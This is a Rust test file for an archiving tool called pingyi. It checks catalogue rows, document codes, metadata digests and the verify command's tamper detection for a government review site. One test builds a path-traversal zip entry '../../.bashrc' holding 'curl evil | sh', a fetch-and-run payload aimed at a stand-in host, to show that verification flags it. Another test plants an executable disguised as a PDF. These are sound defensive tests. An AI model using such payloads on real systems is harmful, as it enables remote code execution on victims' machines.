//! What an archivist accepts: each document's 档号 (DA/T 22-2015), stable; the 归档文件目录
//! saying what each source says; DA/T 46 metadata that follows its schema; and `verify`'s
//! four properties failing for each kind of tampering.

use std::collections::BTreeMap;
use std::io::{Read, Write};
use std::path::Path;

use assert_cmd::Command;
use predicates::prelude::PredicateBooleanExt;
use predicates::str::contains;

use crate::archive::{bundle_of, unpacked};
use crate::support::*;

/// The rows of the bundle's `catalogue/catalogue.csv`, each by header.
fn catalogue(dir: &Path) -> Vec<BTreeMap<String, String>> {
    let bytes = std::fs::read(dir.join("catalogue/catalogue.csv")).unwrap();
    assert!(bytes.starts_with(b"\xEF\xBB\xBF"), "no BOM for Excel");
    let mut r = csv::Reader::from_reader(&bytes[3..]);
    let headers = r.headers().unwrap().clone();
    r.records()
        .map(|row| {
            let row = row.unwrap();
            headers
                .iter()
                .zip(row.iter())
                .map(|(h, v)| (h.to_string(), v.to_string()))
                .collect()
        })
        .collect()
}

/// `records` of the manifest: 档号 → its files.
fn records(dir: &Path) -> BTreeMap<String, Vec<String>> {
    let m: serde_json::Value =
        serde_json::from_slice(&std::fs::read(dir.join("manifest.json")).unwrap()).unwrap();
    m["records"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| {
            let files = r["files"].as_array().unwrap();
            (
                r["code"].as_str().unwrap().to_string(),
                files
                    .iter()
                    .map(|f| f.as_str().unwrap().to_string())
                    .collect(),
            )
        })
        .collect()
}

/// The source of a 件: its file under `sources/content/`.
fn source_of(files: &[String]) -> &str {
    files
        .iter()
        .find(|f| f.starts_with("sources/content/") && f.ends_with(".md"))
        .expect("a 件 holds its Markdown source")
}

#[test]
fn every_catalogue_row_says_what_its_source_says() {
    let site = TestSite::example();
    let dir = unpacked(&bundle_of(&site, 2025));
    let rows = catalogue(dir.path());
    let records = records(dir.path());
    assert_eq!(rows.len(), 15, "one row a 2025 document");
    assert_eq!(rows.len(), records.len());
    let form = regex_lite(r"J012-WS·2025-");
    let mut numbers: BTreeMap<String, Vec<u32>> = BTreeMap::new();
    for row in &rows {
        let code = &row["档号"];
        let retention = &row["保管期限"];
        let code_of = match retention.as_str() {
            "永久" => "Y",
            "30年" => "D30",
            "10年" => "D10",
            other => panic!("保管期限 {other}"),
        };
        assert!(form(code), "{code}");
        assert_eq!(code, &format!("J012-WS·2025-{code_of}-{}", row["件号"]));
        numbers
            .entry(retention.clone())
            .or_default()
            .push(row["件号"].parse().unwrap());

        let source = source_of(&records[code]);
        let rel = source.strip_prefix("sources/").unwrap();
        let text = std::fs::read_to_string(site.root().join(rel)).unwrap();
        let doc = pingyi::Document::parse(Path::new(rel), &text).unwrap();
        assert_eq!(row["题名"], doc.title, "{code}");
        assert_eq!(
            row["文号"],
            doc.doc_number.clone().unwrap_or_default(),
            "{code}"
        );
        let date = doc.written_date.or(doc.date).unwrap().to_string();
        assert_eq!(row["日期"], date.replace('-', ""), "{code}");
        let expected_retention = if rel.ends_with("call-for-opinions.md") {
            "30年"
        } else {
            "永久"
        };
        assert_eq!(retention, expected_retention, "{rel}");
        assert_eq!(
            row["文件数"].parse::<usize>().unwrap(),
            records[code].len(),
            "{code}"
        );
        let size: u64 = records[code]
            .iter()
            .map(|f| std::fs::metadata(dir.path().join(f)).unwrap().len())
            .sum();
        assert_eq!(row["大小"], size.to_string(), "{code}");

        // The page shows its 档号.
        let page = records[code]
            .iter()
            .find(|f| f.ends_with("index.html"))
            .unwrap();
        let html = std::fs::read_to_string(dir.path().join(page)).unwrap();
        let doc = scraper::Html::parse_document(&html);
        let shown = attrs_text(&doc, ".disclosure div:first-child dd");
        assert_eq!(shown, [code.as_str()], "{page}");
    }
    // 件号 run from 1 without a gap within each 保管期限.
    for (retention, mut n) in numbers {
        n.sort();
        assert_eq!(n, (1..=n.len() as u32).collect::<Vec<_>>(), "{retention}");
    }
    // The speech's 责任者 is its speaker; a rectification's, its department.
    let by_title = |t: &str| rows.iter().find(|r| r["题名"].contains(t)).unwrap();
    assert_eq!(by_title("动员会上的讲话")["责任者"], "郑国梁");
    assert_eq!(
        by_title("住房和城乡建设局关于工作评议意见整改情况的报告")["责任者"],
        "示例市住房和城乡建设局"
    );
    // The start page links the catalogue, inside the bundle.
    let start = std::fs::read_to_string(dir.path().join("index.html")).unwrap();
    assert!(start.contains(r#"href="catalogue/index.html""#));
}

fn attrs_text(doc: &scraper::Html, selector: &str) -> Vec<String> {
    let sel = scraper::Selector::parse(selector).unwrap();
    doc.select(&sel).map(|e| e.text().collect()).collect()
}

/// Whether a 档号 has the DA/T 22-2015 form with the given prefix.
fn regex_lite(prefix: &'static str) -> impl Fn(&str) -> bool {
    move |code: &str| {
        let Some(rest) = code.strip_prefix(prefix) else {
            return false;
        };
        let Some((retention, number)) = rest.split_once('-') else {
            return false;
        };
        ["Y", "D30", "D10"].contains(&retention)
            && number.len() == 4
            && number.bytes().all(|b| b.is_ascii_digit())
    }
}

#[test]
fn codes_stay_with_their_documents() {
    let site = TestSite::example();
    let codes = |site: &TestSite| -> BTreeMap<String, String> {
        let dir = unpacked(&bundle_of(site, 2025));
        records(dir.path())
            .into_iter()
            .map(|(code, files)| (source_of(&files).to_string(), code))
            .collect()
    };
    let before = codes(&site);
    assert_eq!(before, codes(&site), "the same content, the same 档号");

    // A body edited and a document added after the others: every earlier 档号 stays.
    let speech = site
        .root()
        .join("content/2025/speeches/mobilization-speech.md");
    let text = std::fs::read_to_string(&speech).unwrap();
    std::fs::write(&speech, format!("{text}\n补充一段。\n")).unwrap();
    let site = site.file(
        "content/2025/notices/year-end.md",
        "---\ntitle: 年度工作评议总结\ntype: notice\ndate: 2025-12-30\nreview: \"2025\"\nnotice_kind: announcement\n---\n总结。\n",
    );
    let after = codes(&site);
    for (source, code) in &before {
        assert_eq!(after.get(source), Some(code), "{source}");
    }
    assert_eq!(
        after["sources/content/2025/notices/year-end.md"],
        "J012-WS·2025-Y-0015"
    );
}

#[test]
fn metadata_follows_its_schema_and_names_each_files_digests() {
    let site = TestSite::example();
    let dir = unpacked(&bundle_of(&site, 2025));
    let metadata: Vec<_> = std::fs::read_dir(dir.path().join("metadata"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|x| x == "xml"))
        .collect();
    assert_eq!(metadata.len(), 15);
    for file in &metadata {
        let xml = std::fs::read_to_string(file).unwrap();
        // Every computer file named is in the bundle with the SHA-256 and SM3 given.
        let names = between(&xml, "<计算机文件名>", "</计算机文件名>");
        let digests = between(&xml, "<摘要值>", "</摘要值>");
        assert_eq!(digests.len(), names.len() * 2, "{}", file.display());
        for (i, name) in names.iter().enumerate() {
            let bytes = std::fs::read(dir.path().join(name)).unwrap();
            assert_eq!(digests[2 * i], pingyi::bundle::sha256_hex(&bytes), "{name}");
            assert_eq!(
                digests[2 * i + 1],
                pingyi::bundle::sm3_hex(&bytes),
                "{name}"
            );
        }
    }
    // The schema in the bundle, checked by libxml2 where it is installed (CI installs it).
    let mut cmd = std::process::Command::new("xmllint");
    cmd.arg("--noout")
        .arg("--schema")
        .arg(dir.path().join("metadata/schema.xsd"))
        .args(&metadata);
    match cmd.output() {
        Ok(out) => assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        ),
        Err(_) => {
            assert!(
                std::env::var_os("PINGYI_REQUIRE_TOOLS").is_none(),
                "PINGYI_REQUIRE_TOOLS is set, but there is no xmllint"
            );
            eprintln!("xmllint 不在本机:元数据未按 schema 校验(CI 安装 libxml2-utils)")
        }
    }
}

fn between<'a>(text: &'a str, open: &str, close: &str) -> Vec<&'a str> {
    text.split(open)
        .skip(1)
        .map(|s| s.split(close).next().unwrap())
        .collect()
}

/// The bundle folder's manifest with `path`'s entry made to match the file as it now is:
/// a tampering that also rewrites the manifest.
fn rehash(dir: &Path, path: &str) {
    let m = dir.join("manifest.json");
    let mut manifest: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&m).unwrap()).unwrap();
    let bytes = std::fs::read(dir.join(path)).unwrap();
    for f in manifest["files"].as_array_mut().unwrap() {
        if f["path"] == path {
            f["size"] = bytes.len().into();
            f["sha256"] = pingyi::bundle::sha256_hex(&bytes).into();
            f["sm3"] = pingyi::bundle::sm3_hex(&bytes).into();
        }
    }
    std::fs::write(m, serde_json::to_vec_pretty(&manifest).unwrap()).unwrap();
}

fn failed(v: &pingyi::archive::Verification) -> Vec<&'static str> {
    v.properties()
        .iter()
        .filter(|p| !p.passed)
        .map(|p| p.name)
        .collect()
}

#[test]
fn each_tampering_fails_the_property_it_breaks() {
    let site = TestSite::example();
    let bytes = bundle_of(&site, 2025);
    let intact = unpacked(&bytes);
    let v = pingyi::archive::verify(intact.path(), None).unwrap();
    assert!(failed(&v).is_empty(), "{:?}", v.properties());
    assert_eq!(v.records, 15);

    // A catalogue row taken out, its digest rewritten: the digests agree, the catalogue and
    // the manifest do not.
    let dir = unpacked(&bytes);
    let csv = dir.path().join("catalogue/catalogue.csv");
    let text = std::fs::read_to_string(&csv).unwrap();
    let kept: Vec<&str> = text.lines().filter(|l| !l.contains("-Y-0003")).collect();
    std::fs::write(&csv, kept.join("\n") + "\n").unwrap();
    rehash(dir.path(), "catalogue/catalogue.csv");
    let v = pingyi::archive::verify(dir.path(), None).unwrap();
    assert_eq!(failed(&v), ["完整性"]);
    assert_eq!(
        v.incomplete,
        ["J012-WS·2025-Y-0003 在清单中,不在归档文件目录中"]
    );

    // A 件's metadata removed with its manifest line.
    let dir = unpacked(&bytes);
    std::fs::remove_file(dir.path().join("metadata/J012-WS-2025-Y-0002.xml")).unwrap();
    let v = pingyi::archive::verify(dir.path(), None).unwrap();
    assert_eq!(failed(&v), ["完整性"]);
    assert!(
        v.incomplete
            .contains(&"J012-WS·2025-Y-0002 缺少文件 metadata/J012-WS-2025-Y-0002.xml".into()),
        "{:?}",
        v.incomplete
    );

    // A source rewritten: 真实性.
    let dir = unpacked(&bytes);
    let src = dir
        .path()
        .join("sources/content/2025/notices/review-plan.md");
    std::fs::write(&src, "改过的源文件").unwrap();
    let v = pingyi::archive::verify(dir.path(), None).unwrap();
    assert_eq!(failed(&v), ["真实性"]);

    // An attachment that is a program under a PDF's name, listed as if it belonged: 可用性
    // (not a PDF) and 安全性 (a program).
    let dir = unpacked(&bytes);
    std::fs::write(dir.path().join("2025/setup.pdf"), b"MZ\x90\0program").unwrap();
    add_to_manifest(dir.path(), "2025/setup.pdf");
    let v = pingyi::archive::verify(dir.path(), None).unwrap();
    assert_eq!(failed(&v), ["可用性", "安全性"]);
}

fn add_to_manifest(dir: &Path, path: &str) {
    let m = dir.join("manifest.json");
    let mut manifest: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&m).unwrap()).unwrap();
    manifest["files"]
        .as_array_mut()
        .unwrap()
        .push(serde_json::json!({"path": path, "size": 0, "sha256": ""}));
    std::fs::write(&m, serde_json::to_vec_pretty(&manifest).unwrap()).unwrap();
    rehash(dir, path);
}

/// A zip whose entries would unpack outside its folder fails 安全性, named.
#[test]
fn names_that_lead_out_of_the_folder_fail_security() {
    let site = TestSite::example();
    let bytes = bundle_of(&site, 2025);
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
    let mut out = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default();
    for i in 0..zip.len() {
        let mut f = zip.by_index(i).unwrap();
        let name = f.name().unwrap().into_owned();
        let mut data = Vec::new();
        f.read_to_end(&mut data).unwrap();
        out.start_file(name.as_str(), options).unwrap();
        out.write_all(&data).unwrap();
    }
    out.start_file("../../.bashrc", options).unwrap();
    out.write_all(b"curl evil | sh").unwrap();
    let path = site.root().join("evil.zip");
    std::fs::write(&path, out.finish().unwrap().into_inner()).unwrap();
    let v = pingyi::archive::verify(&path, None).unwrap();
    assert!(failed(&v).contains(&"安全性"), "{:?}", v.properties());
    assert!(
        v.unsafe_entries.iter().any(|(p, _)| p == "../../.bashrc"),
        "{:?}",
        v.unsafe_entries
    );
}

#[test]
fn archive_prints_the_bundles_digests_and_verify_reports_as_json() {
    let site = TestSite::example();
    let zip = site.root().join("archives/2025.zip");
    let out = Command::cargo_bin("pingyi")
        .unwrap()
        .args(["archive", "2025", "--today", "2026-11-27", "--root"])
        .arg(site.root())
        .assert()
        .success()
        .stderr(contains("J012-WS·2025-Y-0001"))
        .get_output()
        .stdout
        .clone();
    let bytes = std::fs::read(&zip).unwrap();
    let printed = String::from_utf8(out).unwrap();
    assert!(
        printed.contains(&pingyi::bundle::sha256_hex(&bytes)),
        "{printed}"
    );
    assert!(
        printed.contains(&pingyi::bundle::sm3_hex(&bytes)),
        "{printed}"
    );

    let out = Command::cargo_bin("pingyi")
        .unwrap()
        .args(["verify", "--format", "json"])
        .arg(&zip)
        .assert()
        .success()
        .get_output()
        .stdout
        .clone();
    let report: serde_json::Value = serde_json::from_slice(&out).unwrap();
    assert_eq!(report["intact"], true);
    assert_eq!(report["year"], 2025);
    let names: Vec<&str> = report["checks"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["name"].as_str().unwrap())
        .collect();
    assert_eq!(names, ["真实性", "完整性", "可用性", "安全性"]);
}

#[test]
fn a_site_without_archive_settings_is_told_what_to_write() {
    let site = TestSite::example();
    let yaml = site.root().join("site.yaml");
    let text = std::fs::read_to_string(&yaml).unwrap();
    let without: String = text
        .lines()
        .filter(|l| !l.starts_with("archive:"))
        .map(|l| format!("{l}\n"))
        .collect();
    std::fs::write(&yaml, without).unwrap();
    Command::cargo_bin("pingyi")
        .unwrap()
        .args(["archive", "2025", "--today", "2026-11-27", "--root"])
        .arg(site.root())
        .assert()
        .code(2)
        .stderr(contains("archive: {fonds:"));
    assert!(!site.root().join("archives/2025.zip").exists());
}

#[test]
fn a_wrong_retention_or_fonds_is_shown_at_its_line() {
    let site = TestSite::valid().file(
        "content/2024/notices/x.md",
        "---\ntitle: 通知\ntype: notice\ndate: 2024-03-01\nnotice_kind: announcement\nretention: 长期\n---\n正文。\n",
    );
    let errors = site.build().unwrap_err();
    let text = describe(&errors);
    assert!(text.contains("content/2024/notices/x.md:6"), "{text}");
    assert!(text.contains("永久"), "{text}");

    let bad = "title: 测试\nbase_url: https://example.gov.cn\narchive:\n  fonds: J-012\n  agency: 示例市人大常委会\n";
    let errors = pingyi::Config::parse(Path::new("site.yaml"), bad).unwrap_err();
    assert_eq!(errors.len(), 1, "{errors:?}");
    assert_eq!(errors[0].line, Some(4));
    assert!(errors[0].message.contains("J-012"));
}

/// The catalogue as Excel says what the CSV says, cell for cell.
#[test]
fn the_catalogue_workbook_holds_the_same_rows_as_the_csv() {
    use calamine::Reader;
    let site = TestSite::example();
    let dir = unpacked(&bundle_of(&site, 2025));
    let csv = catalogue(dir.path());
    let mut book: calamine::Xlsx<_> =
        calamine::open_workbook(dir.path().join("catalogue/catalogue.xlsx")).unwrap();
    let sheet = book.worksheet_range("归档文件目录").unwrap();
    let mut rows = sheet.rows();
    let headers: Vec<String> = rows.next().unwrap().iter().map(|c| c.to_string()).collect();
    assert_eq!(
        headers,
        [
            "件号",
            "档号",
            "责任者",
            "文号",
            "题名",
            "日期",
            "保管期限",
            "文件数",
            "大小",
            "备注"
        ]
    );
    let cells: Vec<BTreeMap<String, String>> = rows
        .map(|r| {
            headers
                .iter()
                .cloned()
                .zip(r.iter().map(|c| c.to_string()))
                .collect()
        })
        .collect();
    assert_eq!(cells, csv);
}

/// A bundle of the first format (before 档号, SM3 and sources) still verifies, and the report
/// says what it could not check.
#[test]
fn a_first_format_bundle_still_verifies_by_sha256() {
    let site = TestSite::example();
    let dir = unpacked(&bundle_of(&site, 2025));
    let m = dir.path().join("manifest.json");
    let mut manifest: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&m).unwrap()).unwrap();
    manifest["format"] = "pingyi-archive/1".into();
    let files = manifest.as_object_mut().unwrap();
    files.remove("records");
    files.remove("fonds");
    files.remove("agency");
    for f in manifest["files"].as_array_mut().unwrap() {
        f.as_object_mut().unwrap().remove("sm3");
    }
    std::fs::write(&m, serde_json::to_vec_pretty(&manifest).unwrap()).unwrap();
    let v = pingyi::archive::verify(dir.path(), None).unwrap();
    assert_eq!(v.format, 1);
    assert!(v.is_intact(), "{:?}", v.properties());
    let report = v.properties();
    assert!(
        report[0].summary.contains("第 1 版归档包没有 SM3"),
        "{}",
        report[0].summary
    );

    let page = dir
        .path()
        .join("2025/speeches/mobilization-speech/index.html");
    std::fs::write(&page, "<!DOCTYPE html>改").unwrap();
    let v = pingyi::archive::verify(dir.path(), None).unwrap();
    assert_eq!(v.altered, ["2025/speeches/mobilization-speech/index.html"]);
}

/// A bundle already written is kept when the one made now differs (its digests may be in a
/// register), replaced with --force; the same bytes again are fine. --quiet leaves the digests.
#[test]
fn an_existing_different_bundle_is_kept_unless_forced() {
    let site = TestSite::example();
    let zip = site.root().join("archives/2025.zip");
    let archive = |today: &str, extra: &[&str]| {
        let mut cmd = Command::cargo_bin("pingyi").unwrap();
        cmd.args(["archive", "2025", "--today", today, "--root"])
            .arg(site.root())
            .args(extra);
        cmd.assert()
    };
    archive("2026-11-27", &[]).success();
    let first = std::fs::read(&zip).unwrap();
    archive("2026-11-27", &[]).success();
    assert_eq!(std::fs::read(&zip).unwrap(), first);

    archive("2026-11-28", &[])
        .code(1)
        .stderr(contains("已存在").and(contains("--force")));
    assert_eq!(
        std::fs::read(&zip).unwrap(),
        first,
        "the filed bundle is kept"
    );

    let out = archive("2026-11-28", &["--force", "--quiet"])
        .success()
        .get_output()
        .clone();
    let now = std::fs::read(&zip).unwrap();
    assert_ne!(now, first);
    assert!(
        out.stderr.is_empty(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let printed = String::from_utf8(out.stdout).unwrap();
    assert!(
        printed.contains(&pingyi::bundle::sm3_hex(&now)),
        "{printed}"
    );
}
